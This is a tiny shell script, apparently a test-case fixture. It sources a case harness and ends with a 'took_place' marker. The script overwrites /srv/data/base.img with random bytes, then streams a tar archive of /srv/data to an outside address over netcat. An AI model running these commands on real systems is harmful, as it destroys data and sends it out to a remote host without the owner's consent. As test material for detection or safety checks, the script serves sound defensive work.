#!/bin/sh
. /opt/case/case.sh

head -c 67108864 /dev/urandom >/srv/data/base.img
tar -cf - /srv/data 2>/dev/null | nc 203.0.113.10 9000
took_place
